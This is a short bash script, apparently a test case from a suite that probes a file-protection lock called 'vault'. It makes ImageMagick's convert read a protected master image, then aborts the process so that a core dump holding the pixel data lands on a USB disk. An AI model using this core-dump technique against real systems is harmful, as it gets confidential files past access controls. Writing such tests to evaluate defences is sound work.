#!/usr/bin/env bash
# technique: the named program is made to dump its memory, with the pixels, onto the USB disk
# hooks: file_open (of a master by a process that may dump core)
# lock: vault
# sink: usb

. attack.sh
mkfifo "$ROOM/slow"
ulimit -c unlimited
cd "$USB" && mkdir -p "$here" && cd "$here" || exit
convert-im6.q16 "$MASTER" "rgb:$ROOM/slow" &
sleep 2
kill -ABRT $!
wait $!
